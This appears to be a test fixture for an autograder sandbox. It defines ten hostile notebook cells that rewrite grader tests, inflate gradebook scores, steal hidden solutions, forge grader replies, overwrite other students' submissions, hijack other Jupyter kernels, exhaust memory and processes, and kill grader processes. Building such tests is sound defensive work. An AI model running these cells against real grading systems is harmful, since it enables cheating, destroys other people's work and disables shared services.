@@ -1,0 +1,259 @@
+"""Hostile submissions, one per attack class, for tests/test_attacks.py.
+
+Each attack is the source of one extra code cell that a student adds near the
+top of an otherwise blank (all-wrong) notebook. The attacks know everything an
+insider would: the course's absolute path, the library's path, the gradebook's
+path and a local port to reach. Every process an attack starts carries MARKER
+in its command line, so the test can tell whether any outlived grading.
+
+They are written to do as little harm as possible should the sandbox fail:
+writes to the library only append a comment, and kills aim only at nbgrader
+and kernel processes.
+"""
+
+from __future__ import annotations
+
+# Placeholders, filled by `attack_cells`: course, library, gradebook, port, marker.
+
+GRADER_REWRITE = r'''
+import os, py_compile, importlib.util, tempfile
+target = os.path.join({course!r}, "grader_tests", "test_01_entropy_kl.py")
+passing = "\n".join(f"def {{name}}(nb):\n    pass\n" for name in CHECKS)
+try:  # make every check a no-op, appended to the grader itself
+    with open(target, "a") as handle:
+        handle.write("\n" + passing)
+except OSError:
+    pass
+try:  # and a .pyc that the import system would take for the grader: same size and mtime
+    stat = os.stat(target)
+    fake = os.path.join(tempfile.mkdtemp(), "test_01_entropy_kl.py")
+    with open(fake, "w") as handle:
+        handle.write(passing.ljust(stat.st_size - 1) + "\n")
+    os.utime(fake, (stat.st_mtime, stat.st_mtime))
+    os.makedirs(os.path.dirname(importlib.util.cache_from_source(target)), exist_ok=True)
+    py_compile.compile(fake, cfile=importlib.util.cache_from_source(target))
+except OSError:
+    pass
+'''
+
+GRADEBOOK_REWRITE = r'''
+import subprocess, sys
+daemon = """
+import sqlite3, time  # {marker}
+for _ in range(240):
+    time.sleep(0.5)
+    try:
+        db = sqlite3.connect({gradebook!r}, timeout=1)
+        for (table,) in db.execute("select name from sqlite_master where type = 'table'").fetchall():
+            for column in [row[1] for row in db.execute(f"pragma table_info({{table}})")]:
+                if "score" in column:
+                    db.execute(f"update {{table}} set {{column}} = 99")
+        db.commit()
+    except Exception:
+        pass
+"""
+subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+READ_SECRETS = r'''
+import glob, json, os
+for path in glob.glob(os.path.join({course!r}, "grader_tests", "*.py")):
+    try:
+        print(open(path).read())
+    except OSError:
+        pass
+try:
+    with open(os.path.join({course!r}, "source", "01_entropy_kl", "01_entropy_kl.ipynb")) as handle:
+        SOLUTION = "\n".join("".join(c["source"]) for c in json.load(handle)["cells"]
+                             if c["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(c["source"]))
+    # the solution runs after every cell, so it overrides the blank answers
+    get_ipython().input_transformers_post.append(lambda lines: lines + ["\n", SOLUTION + "\n"])
+except OSError:
+    pass
+'''
+
+FORGED_REPLIES = r'''
+import json, os, re
+ns = {{}}
+try:
+    with open(os.path.join({course!r}, "source", "01_entropy_kl", "01_entropy_kl.ipynb")) as handle:
+        for c in json.load(handle)["cells"]:
+            if c["cell_type"] == "code":
+                try:
+                    exec("".join(c["source"]), ns)
+                except Exception:
+                    pass
+except OSError:
+    pass
+
+def forge(result):
+    # every grader request is answered a second time, by the solution if it could be read
+    code = result.info.raw_cell
+    if "__vicourse_request" in code:
+        exec(code.replace("globals()", "FORGED_NS").replace("__vicourse_request", "__forged"), {{"FORGED_NS": ns}})
+        marker = re.search(r"@@vicourse-[0-9a-f]+@@", code)
+        if marker:
+            print(marker.group(0) + json.dumps({{"ok": True, "value": 0.0}}) + marker.group(0))
+
+get_ipython().events.register("post_run_cell", forge)
+# and every cell's asserts are wrapped in try/except
+get_ipython().input_transformers_post.append(
+    lambda lines: ["try:\n", "    pass\n"] + ["    " + line for line in lines] + ["\nexcept BaseException:\n    pass\n"])
+'''
+
+LIBRARY_TAMPER = r'''
+import glob, os
+targets = [os.path.join({course!r}, "nbgrader_config.py")] + glob.glob(os.path.join({library!r}, "*.py"))
+try:
+    import vicourse
+    targets += glob.glob(os.path.join(os.path.dirname(vicourse.__file__), "*.py"))
+except ImportError:
+    pass
+for path in targets:
+    try:
+        with open(path, "a") as handle:
+            handle.write("\n# tampered by a submission\n")
+    except OSError:
+        pass
+'''
+
+OTHER_STUDENTS = r'''
+import glob, os
+for pattern in ("submitted/*/*/*.ipynb", "build/staged/*/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
+    for path in glob.glob(os.path.join({course!r}, pattern)):
+        if "a6-other-students" in path:
+            continue
+        try:
+            with open(path, "w") as handle:
+                handle.write("{{}}")
+        except OSError:
+            pass
+'''
+
+NETWORK_AND_KERNELS = r'''
+import os, socket, subprocess, sys
+try:  # every later kernel of this user would run this first
+    startup = os.path.expanduser("~/.ipython/profile_default/startup")
+    os.makedirs(startup, exist_ok=True)
+    with open(os.path.join(startup, "00-{marker}.py"), "w") as handle:
+        handle.write("import builtins  # {marker}\n")
+except OSError:
+    pass
+for host in ("127.0.0.1", "localhost"):
+    try:
+        socket.create_connection((host, {port}), timeout=2).close()
+    except OSError:
+        pass
+from ipykernel import get_connection_file
+daemon = """
+import glob, os, socket, time  # {marker}
+from jupyter_client import BlockingKernelClient
+seen = {{%r}}  # every kernel but this one
+for _ in range(240):
+    files = glob.glob("/tmp/**/*.json", recursive=True) + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
+    for path in map(os.path.realpath, files):
+        if path in seen:
+            continue
+        seen.add(path)
+        try:
+            client = BlockingKernelClient(connection_file=path)
+            client.load_connection_file()
+            client.start_channels()
+            client.execute("import builtins; builtins.__import__ = None")
+        except Exception:
+            pass
+    try:
+        socket.create_connection(("127.0.0.1", {port}), timeout=1).close()
+    except Exception:
+        pass
+    time.sleep(0.5)
+""" % os.path.realpath(get_connection_file())
+subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+RESOURCES = r'''
+import os, subprocess, sys, time
+try:
+    hog = bytearray(5 << 30)
+except MemoryError:
+    pass
+for _ in range(50):
+    try:
+        subprocess.Popen(["sh", "-c", "sleep 600; : {marker}"], start_new_session=True)
+    except OSError:
+        break
+for _ in range(400):
+    try:
+        if os.fork() == 0:
+            os.execv("/bin/sh", ["sh", "-c", "sleep 600; : {marker}"])
+    except OSError:
+        break
+try:
+    with open("big.bin", "wb") as handle:
+        for _ in range(2048):
+            handle.write(b"x" * (1 << 20))
+except OSError:
+    pass
+'''
+
+OUTPUT_FLOOD = r'''
+print("x" * (200 << 20))
+for _ in range(100):
+    print("y" * (1 << 20))
+'''
+
+KILL_THE_GRADER = r'''
+import os, signal, subprocess, sys
+def grader_processes():
+    for pid in os.listdir("/proc"):
+        try:
+            cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read()
+        except OSError:
+            continue
+        if b"nbgrader" in cmdline or b"ipykernel" in cmdline:
+            yield int(pid)
+for pid in [os.getppid(), *grader_processes()]:
+    if pid != os.getpid():
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+later = """
+import os, signal, time  # {marker}
+time.sleep(6)
+for pid in os.listdir("/proc"):
+    try:
+        cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read()
+    except OSError:
+        continue
+    if (b"nbgrader" in cmdline or b"ipykernel" in cmdline) and int(pid) != os.getpid():
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+"""
+subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+ATTACKS = {
+    "a1-grader-rewrite": GRADER_REWRITE,
+    "a2-gradebook-rewrite": GRADEBOOK_REWRITE,
+    "a3-read-secrets": READ_SECRETS,
+    "a4-forged-replies": FORGED_REPLIES,
+    "a5-library-tamper": LIBRARY_TAMPER,
+    "a6-other-students": OTHER_STUDENTS,
+    "a7-network-and-kernels": NETWORK_AND_KERNELS,
+    "a8-resources": RESOURCES,
+    "a9-kill-the-grader": KILL_THE_GRADER,
+    "a10-output-flood": OUTPUT_FLOOD,
+}
+
+
+def attack_cells(**where) -> dict[str, str]:
+    """{submission name: the attack cell's source}, with the course's paths filled in."""
+    cells = {name: code.format(**where) for name, code in ATTACKS.items()}
+    cells["a1-grader-rewrite"] = f"CHECKS = {where['checks']!r}\n" + cells["a1-grader-rewrite"]
+    return cells
